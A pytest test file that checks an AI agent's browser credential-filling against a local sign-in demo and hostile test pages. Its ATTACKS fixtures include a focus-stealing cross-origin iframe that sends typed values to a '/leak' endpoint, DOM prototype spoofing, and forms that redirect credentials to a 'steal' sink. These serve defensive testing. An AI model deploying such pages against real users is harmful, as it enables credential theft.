"""The agent's side of its chromium (guest/browser.py) against Debian's real chromium and the real sign-in
demo site (images/signin-demo/site.py) on loopback: forms found, filled and submitted over the DevTools
pipe, and each hostile page bounded. Chromium runs headless as ``nobody`` (its sandbox on) when the tests
run as root, the pipes made by :func:`guest.launch.spawn_with_pipes` as the broker makes them."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from contextlib import contextmanager
from typing import Any, Iterator

import pytest

from controller.chromium import profile_tree
from guest.browser import BrowserError, BrowserHost
from guest.browser_tools import BrowserTools
from guest.cdp import wait_until
from guest.launch import spawn_with_pipes
from wire.browser import FillRequest
from wire.browser_tools import REFUSED_SIGNIN_REDIRECT, GuestUrlRule

ROOT = Path(__file__).resolve().parents[2]
SITE = ROOT / "images" / "signin-demo" / "site.py"
CHROMIUM = "/usr/bin/chromium"
PASSWORD, EMAIL = "sandbox-demo-pass", "person@example.test"

pytestmark = pytest.mark.skipif(not os.access(CHROMIUM, os.X_OK) or not shutil.which("setpriv"),
                                reason="needs Debian's chromium and setpriv")


@pytest.fixture(scope="module")
def site() -> Iterator[dict[str, Any]]:
    proc = subprocess.Popen([sys.executable, str(SITE), '{"http": [0, 0], "bind": "127.0.0.1"}'],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    ready = json.loads(proc.stdout.readline())
    yield {"port": ready["ports"][0], "other": ready["ports"][1], "proc": proc}
    proc.terminate()
    proc.wait(10)


@contextmanager
def chromium(*args: str, guard: list[str] | None = None) -> Iterator[BrowserHost]:
    """The agent's side of a fresh headless chromium started with ``args`` besides the usual ones. With
    ``guard`` (the guest-local origins the URL rule names), every request it makes waits for the agent's
    request guard, as in the agent (guest/browser_tools.py), which is on before this returns."""
    # A profile directory nobody can reach (pytest's tmp_path sits under a 0700 directory of root's).
    top = Path(tempfile.mkdtemp(prefix="ds-browser-"))
    prefix = profile_tree(top)
    profile = top / "profile"
    pid, fds = spawn_with_pipes([CHROMIUM, "--headless=new", "--remote-debugging-pipe", f"--user-data-dir={profile}",
                                 "--no-first-run", "--password-store=basic", *args, "about:blank"],
                                {"HOME": str(profile), "PATH": "/usr/bin:/bin"}, prefix)
    browser = BrowserHost()
    tools = None
    if guard is not None:
        tools = BrowserTools(browser)
        tools.set_rule(GuestUrlRule(local_origins=guard))
    browser.take_channel("chromium", pid, *fds)
    try:
        if tools is not None:
            assert wait_until(lambda: tools._ch is not None and tools._ch.guarded.is_set(), 30, 0.05)
        yield browser
    finally:
        browser.close()
        try:
            os.waitpid(pid, 0)
        except ChildProcessError:
            pass
        shutil.rmtree(top, ignore_errors=True)


@pytest.fixture()
def host(site: dict[str, Any], request: pytest.FixtureRequest) -> Iterator[BrowserHost]:
    """A fresh chromium for one test (more chromium arguments: the test's indirect param)."""
    with chromium(*getattr(request, "param", ())) as browser:
        yield browser


@pytest.fixture(scope="module")
def shared(site: dict[str, Any]) -> Iterator[BrowserHost]:
    """One chromium for the tests that each open a page of their own and leave nothing behind."""
    with chromium() as browser:
        yield browser


def goto(host: BrowserHost, url: str) -> Any:
    """Navigate the active tab and wait until its page reports ``url`` (bounded)."""
    pipe = host._channel()
    session = host._active_page(pipe)
    pipe.call("Page.navigate", {"url": url}, session_id=session)

    def there() -> Any:
        try:
            page = host.signin_page()
        except Exception:  # noqa: BLE001 - the page is still loading
            return None
        return page if page.url == url else None
    page = wait_until(there, 15, 0.1)
    assert page is not None, f"the page did not load: {url}"
    return page


def test_the_demo_sign_in_takes_three_requests_and_signs_in(host: BrowserHost, site: dict[str, Any]) -> None:
    base = f"http://127.0.0.1:{site['port']}"
    page = goto(host, base + "/")
    assert page.origin == base and [o.id for o in page.form.options] == ["email_code", "password"]
    assert host.fill(FillRequest(credential_origin=base, selected_option="password")).outcome == "submitted"
    page = host.signin_page()
    assert [(f.id, f.kind, f.type) for f in page.form.fields] == [("email", "email", "email")]
    assert host.fill(FillRequest(credential_origin=base, fields=[{"field_id": "email", "value": EMAIL}])).navigated
    page = host.signin_page()
    assert [(f.id, f.kind, f.type) for f in page.form.fields] == [("password", "password", "password")]
    result = host.fill(FillRequest(credential_origin=base, fields=[{"field_id": "password", "value": PASSWORD}]))
    assert (result.outcome, result.navigated, result.origin) == ("submitted", True, base)
    assert host.signin_page().form is None
    state = host.page_text(base + "/session")
    assert json.loads(state["text"]) == {"signed_in": True, "account": "demo-person", "method": "password"}


def test_a_wrong_origin_gets_nothing_typed(host: BrowserHost, site: dict[str, Any]) -> None:
    base = f"http://127.0.0.1:{site['port']}"
    goto(host, base + "/hostile/fake-origin")
    result = host.fill(FillRequest(credential_origin="https://bank.example",
                                   fields=[{"field_id": "password", "value": PASSWORD}]))
    assert result.outcome == "origin_changed"


def test_a_page_that_moves_to_another_origin_before_the_fill_gets_nothing(host: BrowserHost, site: dict[str, Any]) -> None:
    base = f"http://127.0.0.1:{site['port']}"
    page = goto(host, f"{base}/hostile/navigate?to={site['other']}&after_ms=300")
    assert page.origin == base and page.form.fields[0].kind == "password"
    def moved() -> bool:
        try:
            return host.signin_page().origin != base
        except BrowserError:  # asked while the next document replaces this one
            return False
    assert wait_until(moved, 10, 0.1)
    result = host.fill(FillRequest(credential_origin=base, fields=[{"field_id": "password", "value": PASSWORD}]))
    assert result.outcome == "origin_changed" and result.origin == f"http://127.0.0.1:{site['other']}"


def test_the_page_text_does_not_decide_the_origin(host: BrowserHost, site: dict[str, Any]) -> None:
    page = goto(host, f"http://127.0.0.1:{site['port']}/hostile/fake-origin")
    assert page.origin == f"http://127.0.0.1:{site['port']}"
    assert "bank.example" not in page.origin


def test_hostile_forms_are_bounded(host: BrowserHost, site: dict[str, Any]) -> None:
    base = f"http://127.0.0.1:{site['port']}"
    page = goto(host, base + "/hostile/many-fields")
    assert [f.kind for f in page.form.fields] == ["password"]  # 500 text fields are not credentials
    t0 = time.monotonic()
    page = goto(host, base + "/hostile/labels")
    assert time.monotonic() - t0 < 15
    assert all(len(f.label) <= 200 for f in page.form.fields)
    assert any("\x1b" in f.label for f in page.form.fields)  # kept as data: the controller escapes it
    assert goto(host, base + "/hostile/canvas").form is None  # a password box drawn on a canvas is no form


def test_a_field_that_rerenders_while_filled_ends_filled_or_refused(host: BrowserHost, site: dict[str, Any]) -> None:
    base = f"http://127.0.0.1:{site['port']}"
    goto(host, base + "/hostile/rerender")
    result = host.fill(FillRequest(credential_origin=base, fields=[{"field_id": "password", "value": PASSWORD}]))
    assert result.outcome in ("submitted", "field_unstable")
    if result.outcome == "submitted":
        assert json.loads(host.page_text(base + "/session")["text"])  # the site still answers


def test_an_unknown_field_or_option_is_form_changed(host: BrowserHost, site: dict[str, Any]) -> None:
    base = f"http://127.0.0.1:{site['port']}"
    goto(host, base + "/")
    assert host.fill(FillRequest(credential_origin=base, selected_option="nope")).outcome == "form_changed"
    goto(host, base + "/hostile/canvas")
    assert host.fill(FillRequest(credential_origin=base,
                                 fields=[{"field_id": "password", "value": PASSWORD}])).outcome == "no_form"


# -- pages that attack the fill, served on two loopback origins of ours ------------------------------------
ATTACKS = {
    # a frame of another origin that takes the focus again and again and reports what is typed into it
    "/iframe-login": '<h1>Sign in</h1><form action="/done" method="post"><label>Password <input type=password '
                     'id=password name=password></label><button>Sign in</button></form>'
                     '<iframe src="{OTHER}/thief" width=300 height=100></iframe>',
    "/thief": "<input id=x autofocus><script>const x = document.getElementById('x');"
              "x.addEventListener('input', () => new Image().src = '/leak?v=' + encodeURIComponent(x.value));"
              "setInterval(() => { if (document.activeElement !== x || !document.hasFocus()) x.focus(); }, 0);</script>",
    # a failed sign-in that only changes the URL: the document, and the value in it, stay
    "/push-login": '<h1>Sign in</h1><form id=f method=post action="/done"><label>Password <input type=password id=password '
                   'name=password></label><button type=submit>Sign in</button></form><script>'
                   "f.addEventListener('submit', e => { e.preventDefault(); history.pushState({}, '', '/push-login?failed=1'); });"
                   "</script>",
    # the page's own world answers the DOM's questions with 20 MB, or lies about being shown
    "/huge": "<h1>Sign in</h1><form><input type=password id=password></form><script>"
             "const big = 'x'.repeat(20 * 1024 * 1024); Document.prototype.hasFocus = function () { return big; };</script>",
    "/liar": "<h1>Sign in</h1><form><label>Password <input type=password id=password></label></form><script>"
             "Object.defineProperty(Document.prototype, 'visibilityState', {get() { return 'visible'; }});"
             "Document.prototype.hasFocus = () => true;</script>",
}


@pytest.fixture(scope="module")
def attacker() -> Iterator[dict[str, Any]]:
    """Two origins of ours (127.0.0.1 and 127.0.0.2, ephemeral ports) serving :data:`ATTACKS`; ``leaks``
    collects the paths a page reported to."""
    import http.server
    import threading

    state: dict[str, Any] = {"leaks": []}

    class Handler(http.server.BaseHTTPRequestHandler):
        def log_message(self, *_: Any) -> None:
            pass

        def do_GET(self) -> None:
            path = self.path.split("?")[0]
            if path == "/leak":
                state["leaks"].append(self.path)
            body = ATTACKS.get(path, "<p>done</p>").replace("{OTHER}", state["other"]).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
        do_POST = do_GET

    servers = [http.server.ThreadingHTTPServer((host, 0), Handler) for host in ("127.0.0.1", "127.0.0.2")]
    for server in servers:
        threading.Thread(target=server.serve_forever, daemon=True).start()
    state["base"], state["other"] = (f"http://{s.server_address[0]}:{s.server_address[1]}" for s in servers)
    yield state
    for server in servers:
        server.shutdown()


def test_a_frame_of_another_origin_that_takes_the_focus_gets_nothing(host: BrowserHost, attacker: dict[str, Any]) -> None:
    base = attacker["base"]
    goto(host, base + "/iframe-login")
    result = host.fill(FillRequest(credential_origin=base, fields=[{"field_id": "password", "value": PASSWORD}]))
    assert result.outcome == "submitted"
    assert wait_until(lambda: host.signin_page().form is None, 5, 0.1)  # the page moved on: /done
    assert attacker["leaks"] == []


def test_a_failed_sign_in_that_only_changes_the_url_keeps_no_value(host: BrowserHost, attacker: dict[str, Any]) -> None:
    base = attacker["base"]
    goto(host, base + "/push-login")
    result = host.fill(FillRequest(credential_origin=base, fields=[{"field_id": "password", "value": PASSWORD}]))
    assert (result.outcome, result.navigated) == ("submitted", False)
    pipe = host._channel()
    length = pipe.call("Runtime.evaluate", {"expression": "document.getElementById('password').value.length",
                                            "returnByValue": True}, session_id=host._active_page(pipe))
    assert length["result"]["value"] == 0


def test_a_page_cannot_cut_the_agent_off_or_pose_as_the_tab_in_front(host: BrowserHost, attacker: dict[str, Any]) -> None:
    base = attacker["base"]
    goto(host, base + "/huge")
    assert host.signin_page().form is not None and host.status()["running"]
    goto(host, base + "/")
    pipe = host._channel()
    pipe.call("Target.createTarget", {"url": attacker["other"] + "/liar", "background": True})
    assert wait_until(lambda: len([t for t in pipe.call("Target.getTargets")["targetInfos"] if t["type"] == "page"]) == 2, 10, 0.1)
    assert host.signin_page().origin == base


# -- where the values go, and whether the browser would let them go ------------------------------------------
def form_page(host: BrowserHost, site: dict[str, Any], name: str) -> Any:
    """Open the demo site's ``/hostile/form/NAME`` (its other origin: the site's second port) and count, in
    the page's own world, the ``input`` events its fields get from now on (``window.inputs``)."""
    page = goto(host, f"http://127.0.0.1:{site['port']}/hostile/form/{name}?to={site['other']}")
    page_world(host, "window.inputs = 0; document.addEventListener('input', () => window.inputs++, true); 0")
    return page


def page_world(host: BrowserHost, expression: str) -> Any:
    """``expression``'s value in the page's own world (the test reads the page as the page sees itself)."""
    pipe = host._channel()
    answer = pipe.call("Runtime.evaluate", {"expression": expression, "returnByValue": True},
                       session_id=host._active_page(pipe))
    return answer["result"].get("value")


def site_stats(site: dict[str, Any]) -> dict[str, Any]:
    import urllib.request

    with urllib.request.urlopen(f"http://127.0.0.1:{site['port']}/stats", timeout=10) as answer:
        return json.loads(answer.read())


CREDENTIALS = [{"field_id": "email", "value": EMAIL}, {"field_id": "password", "value": PASSWORD}]
TYPED = "[...document.querySelectorAll('input:not([type=checkbox])')].map(e => e.value).join('')"
"""What the page's text fields hold, all together."""


@pytest.mark.parametrize("name, method, outcome", [
    ("get", "get", "unsafe_form"), ("dialog", "dialog", "unsafe_form"), ("formmethod-get", "get", "unsafe_form"),
    ("formless", "", "unsafe_form"), ("cross-action", "post", "cross_origin_form"),
    ("cross-formaction", "post", "cross_origin_form"), ("base-href", "post", "cross_origin_form"),
    ("javascript-action", "post", "cross_origin_form"),
])
def test_a_form_that_would_send_the_values_by_get_or_elsewhere_gets_nothing_typed(shared, site, name, method, outcome):
    base, other = f"http://127.0.0.1:{site['port']}", f"http://127.0.0.1:{site['other']}"
    page = form_page(shared, site, name)
    destination = {"formless": "", "javascript-action": "null"}.get(name, other if outcome == "cross_origin_form" else base)
    assert (page.form.method, page.form.destination) == (method, destination)
    before = site_stats(site)["sinks"]
    result = shared.fill(FillRequest(credential_origin=base, fields=CREDENTIALS))
    assert (result.outcome, result.destination, result.navigated) == (outcome, destination, False)
    assert result.detail and EMAIL not in result.detail and PASSWORD not in result.detail
    assert page_world(shared, "window.inputs") == 0  # refused before the first value
    assert page_world(shared, TYPED) == ""
    assert site_stats(site)["sinks"] == before


def test_an_action_the_page_moves_to_another_origin_while_typed_is_caught_before_the_submit(shared, site):
    base = f"http://127.0.0.1:{site['port']}"
    page = form_page(shared, site, "late-action")
    assert (page.form.method, page.form.destination) == ("post", base)
    before = site_stats(site)["sinks"]
    result = shared.fill(FillRequest(credential_origin=base, fields=CREDENTIALS))
    assert (result.outcome, result.destination) == ("cross_origin_form", f"http://127.0.0.1:{site['other']}")
    assert page_world(shared, "window.inputs") > 0  # typed, then found out at the submit: cleared, not sent
    assert page_world(shared, TYPED) == ""
    assert site_stats(site)["sinks"] == before


@pytest.fixture(scope="module")
def guarded(site: dict[str, Any]) -> Iterator[BrowserHost]:
    """One chromium behind the agent's request guard, the site's two origins allowed by the URL rule."""
    with chromium(guard=[f"http://127.0.0.1:{site['port']}", f"http://127.0.0.1:{site['other']}"]) as browser:
        yield browser


@pytest.mark.parametrize("name", ["redirect-307", "redirect-308", "redirect-chain"])
def test_a_submit_the_site_redirects_to_another_origin_sends_that_origin_nothing(guarded, site, name):
    """The site answers the sign-in's POST with a 307 or 308 (which send the body again), straight or after
    a hop on its own origin, to another origin: the hop there is refused before it leaves chromium, the
    outcome says so and names that origin."""
    base, other = f"http://127.0.0.1:{site['port']}", f"http://127.0.0.1:{site['other']}"
    page = form_page(guarded, site, name)
    assert (page.form.method, page.form.destination) == ("post", base)
    before = site_stats(site)
    result = guarded.fill(FillRequest(credential_origin=base, fields=CREDENTIALS))
    assert (result.outcome, result.destination) == ("cross_origin_redirect", other), result
    assert other in result.detail and EMAIL not in result.detail and PASSWORD not in result.detail
    assert site_stats(site)["sinks"]["/hostile/steal"] == before["sinks"]["/hostile/steal"]
    text = page_world(guarded, "document.body.innerText")
    assert REFUSED_SIGNIN_REDIRECT in text and PASSWORD not in text


def test_a_submit_the_site_sends_on_as_a_get_is_submitted(guarded, site):
    """A 303 turns the POST into a GET without its body: that hop goes on, and the fill is ``submitted``."""
    base = f"http://127.0.0.1:{site['port']}"
    form_page(guarded, site, "redirect-303")
    before = site_stats(site)
    result = guarded.fill(FillRequest(credential_origin=base, fields=CREDENTIALS))
    assert (result.outcome, result.navigated) == ("submitted", True), result
    assert site_stats(site)["sinks"]["/hostile/steal"] == before["sinks"]["/hostile/steal"] + 1


@pytest.mark.parametrize("name, fields, constraint, words", [
    ("invalid-email", [{"field_id": "email", "value": "person.example.test"}, CREDENTIALS[1]], "typeMismatch",
     "field email"),
    ("invalid-email", [{"field_id": "email", "value": "person@"}, CREDENTIALS[1]], "typeMismatch", "field email"),
    ("pattern", [{"field_id": "code", "value": "12ab56"}], "patternMismatch", "field code"),
    ("terms", CREDENTIALS, "valueMissing", "I accept the terms"),
])
def test_a_form_the_browsers_validation_stops_is_invalid_and_cleared(shared, site, name, fields, constraint, words):
    base = f"http://127.0.0.1:{site['port']}"
    form_page(shared, site, name)
    before = site_stats(site)["sinks"]
    result = shared.fill(FillRequest(credential_origin=base, fields=fields))
    assert (result.outcome, result.navigated) == ("invalid", False)
    assert constraint in result.detail and words in result.detail, result.detail
    assert not any(f["value"] in result.detail for f in fields)  # chromium's own message quotes a bad e-mail
    assert page_world(shared, TYPED) == ""
    assert site_stats(site)["sinks"] == before


@pytest.mark.parametrize("name, fields", [
    ("post", CREDENTIALS),
    ("novalidate", [{"field_id": "email", "value": "person.example.test"}]),
    ("minlength", [{"field_id": "password", "value": "short"}]),  # minlength binds a person's typing only
    ("other-owner", CREDENTIALS),  # the button inside belongs to a form that sends elsewhere: not clicked
])
def test_a_form_the_browser_lets_go_is_submitted_and_reaches_the_site(shared, site, name, fields):
    base = f"http://127.0.0.1:{site['port']}"
    form_page(shared, site, name)
    before = site_stats(site)["sinks"]["/hostile/done"]
    result = shared.fill(FillRequest(credential_origin=base, fields=fields))
    assert (result.outcome, result.navigated, result.destination) == ("submitted", True, base)
    assert site_stats(site)["sinks"]["/hostile/done"] == before + 1


# -- values on the screen ---------------------------------------------------------------------------------------
def held_frames(host: BrowserHost, site: dict[str, Any], name: str, email: str, code: str) -> list[dict[str, bytes]]:
    """Fill ``/hostile/form/NAME`` (a ``hold`` page) with ``email``, ``code`` and a password; while the site
    holds the submit (the values in the fields), capture the screen 3 times: each frame's e-mail and code
    field regions, as PNG bytes (the first frame: the empty fields, before the fill). Then release the
    submit and wait for the fill's end."""
    import base64
    import threading
    import urllib.request

    base = f"http://127.0.0.1:{site['port']}"
    goto(host, f"{base}/hostile/form/{name}")
    boxes = page_world(host, "['email', 'code'].map(id => { const r = document.getElementById(id)"
                             ".getBoundingClientRect(); return {x: r.x, y: r.y, width: r.width, height: r.height, scale: 1}; })")
    pipe = host._channel()
    session = host._active_page(pipe)

    def frame() -> dict[str, bytes]:
        return {field: base64.b64decode(pipe.call("Page.captureScreenshot", {"format": "png", "clip": box},
                                                  session_id=session)["data"]) for field, box in zip(("email", "code"), boxes)}
    frames = [frame()]
    ended: dict[str, Any] = {}
    fill = threading.Thread(target=lambda: ended.setdefault("result", host.fill(FillRequest(
        credential_origin=base, fields=[{"field_id": "email", "value": email}, {"field_id": "code", "value": code},
                                        {"field_id": "password", "value": PASSWORD}]))))
    fill.start()
    try:
        assert wait_until(lambda: site_stats(site)["held"] == 1, 15, 0.05), "the submit never reached the site"
        frames += [frame() for _ in range(3)]
    finally:
        urllib.request.urlopen(f"{base}/hostile/release", timeout=10).close()
        fill.join(30)
    assert ended["result"].outcome == "submitted"
    return frames


@pytest.mark.parametrize("name", ["hold", "hold-restyle", "hold-rerender", "hold-unmask"])
def test_a_value_in_a_field_is_drawn_masked_so_its_pixels_tell_nothing(shared, site, name):
    """Two e-mails and two codes of the same length: the fields' pixels while the values are in them are
    the same for both, so nothing but the length reaches the screen (the page may rewrite the fields'
    style, replace them, or draw them unmasked from a shadow root while the values are there)."""
    empty, *first = held_frames(shared, site, name, "person@example.test", "424242")
    _, *second = held_frames(shared, site, name, "robots@elsewhere.xy", "171717")
    for field in ("email", "code"):
        shown = {frame[field] for frame in first} | {frame[field] for frame in second}
        distinct = len(shown)
        assert distinct == 1, f"the {field} field's pixels differ with its value"
        assert shown != {empty[field]}  # the value is there, drawn as discs


@pytest.mark.parametrize("host", [(), ("--disable-features=BackForwardCache",)], indirect=True,
                         ids=["back-forward-cache", "form-state-restore"])
def test_going_back_after_a_sign_in_shows_no_value(host, site):
    """Back after a submit shows the page the values were typed into as it was kept (the back/forward
    cache) or rebuilt with its form state restored: its fields hold nothing (an e-mail on the demo's
    e-mail page, a code on a page of its own)."""
    base = f"http://127.0.0.1:{site['port']}"
    goto(host, base + "/")
    assert host.fill(FillRequest(credential_origin=base, selected_option="email_code")).outcome == "submitted"
    for page, field, value in (("/email", "email", EMAIL), ("/hostile/form/pattern", "code", "424242")):
        if host.signin_page().url != base + page:
            goto(host, base + page)
        result = host.fill(FillRequest(credential_origin=base, fields=[{"field_id": field, "value": value}]))
        assert (result.outcome, result.navigated) == ("submitted", True)
        assert wait_until(lambda: host.signin_page().url != base + page, 10, 0.05)
        page_world(host, "history.back()")
        assert wait_until(lambda: host.signin_page().url == base + page, 10, 0.05), host.signin_page().url
        assert wait_until(lambda: page_world(host, "document.readyState") == "complete", 10, 0.05)
        assert page_world(host, TYPED) == "", f"the {field} page came back holding its value"


SLOW_FIRST_PAGE = ('<!doctype html><html><head><meta charset="utf-8"><title>Sign in</title></head><body>'
                   '<form method="post" action="/next"><label for="email">E-mail</label>'
                   '<input type="email" id="email" name="email" autocomplete="username" required>'
                   '<button type="submit">Next</button></form></body></html>')
SLOW_HEAD = '<!doctype html><html><head><meta charset="utf-8"><title>Password</title></head><body><h1>Password</h1>'
SLOW_REST = ('<form method="post" action="/done"><label for="password">Password</label>'
             '<input type="password" id="password" name="password" autocomplete="current-password" required>'
             '<button type="submit">Sign in</button></form></body></html>')


@contextmanager
def slow_second_step(parse_after_s: float) -> Iterator[str]:
    """A two-step sign-in on 127.0.0.1 whose second page sends its head at once and its form
    ``parse_after_s`` later: the new document is there (committed) well before its form."""
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
    import threading

    stop = threading.Event()

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: Any) -> None:
            pass

        def do_GET(self) -> None:
            body = SLOW_FIRST_PAGE.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Connection", "close")
            self.end_headers()
            self.wfile.write(SLOW_HEAD.encode() + b" " * 2048)  # past the parser's first chunk
            self.wfile.flush()
            stop.wait(parse_after_s)  # the server's pacing: the rest of the page comes later
            self.wfile.write(SLOW_REST.encode())

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        stop.set()
        server.shutdown()
        server.server_close()


def test_the_next_steps_form_is_read_right_after_a_fill_that_navigated(shared):
    """A fill that navigated returns once the new document is parsed, so the page read right after it
    (the next request of a multi-step sign-in) shows the next step's form, not a document still loading."""
    with slow_second_step(1.5) as base:
        page = goto(shared, base + "/")
        assert [f.id for f in page.form.fields] == ["email"]
        result = shared.fill(FillRequest(credential_origin=base, fields=[{"field_id": "email", "value": EMAIL}]))
        assert (result.outcome, result.navigated) == ("submitted", True)
        page = shared.signin_page()
        assert page.form is not None and [f.id for f in page.form.fields] == ["password"], page
